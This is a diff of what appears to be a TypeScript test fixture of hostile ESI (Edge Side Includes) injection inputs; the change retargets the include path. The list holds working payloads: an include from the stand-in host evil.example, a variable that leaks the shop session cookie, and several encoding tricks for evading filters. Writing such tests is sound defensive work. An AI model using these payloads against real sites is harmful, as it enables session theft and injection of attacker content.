@@ -34,18 +34,18 @@ const split = (name: string, path: string): Hostile => ({
 })
 
 export const injection: Hostile[] = [
-  text('plain', '<esi:include src="/en/fragments/nav"/>'),
+  text('plain', '<esi:include src="/en/fragments/offer/1"/>'),
   text('to another host', '<esi:include src="http://evil.example/"/>'),
-  text('with an error handler', '<esi:include src="/x" onerror="continue" alt="/en/fragments/nav"/>'),
+  text('with an error handler', '<esi:include src="/x" onerror="continue" alt="/en/fragments/offer/1"/>'),
   text('as a variable', '<esi:vars>$(HTTP_COOKIE{shop_session})</esi:vars>'),
   text('as inline', '<esi:inline name="/en" fetchable="yes">FRAG</esi:inline>'),
-  text('in a comment', '<!--esi <esi:include src="/en/fragments/nav"/> -->'),
-  text('in capitals', '<ESI:INCLUDE SRC="/en/fragments/nav"/>'),
-  text('with a byte order mark', '\ufeff<esi:include src="/en/fragments/nav"/>'),
-  text('with wide signs', '＜esi:include src="/en/fragments/nav"/＞'),
-  text('with a zero-width space', '<\u200besi:include src="/en/fragments/nav"/>'),
-  raw('overlong UTF-8', '%c0%bcesi:include%20src=%22/en/fragments/nav%22/%c0%be'),
-  raw('UTF-7', '%2bADw-esi:include%20src%3d%22/en/fragments/nav%22/%2bAD4-'),
+  text('in a comment', '<!--esi <esi:include src="/en/fragments/offer/1"/> -->'),
+  text('in capitals', '<ESI:INCLUDE SRC="/en/fragments/offer/1"/>'),
+  text('with a byte order mark', '\ufeff<esi:include src="/en/fragments/offer/1"/>'),
+  text('with wide signs', '＜esi:include src="/en/fragments/offer/1"/＞'),
+  text('with a zero-width space', '<\u200besi:include src="/en/fragments/offer/1"/>'),
+  raw('overlong UTF-8', '%c0%bcesi:include%20src=%22/en/fragments/offer/1%22/%c0%be'),
+  raw('UTF-7', '%2bADw-esi:include%20src%3d%22/en/fragments/offer/1%22/%2bAD4-'),
   raw('UTF-16', '%ff%fe<%00e%00s%00i%00:%00'.replaceAll('%00', '%20')),
   {
     name: 'a fragment asked for by a visitor is a page like any other',
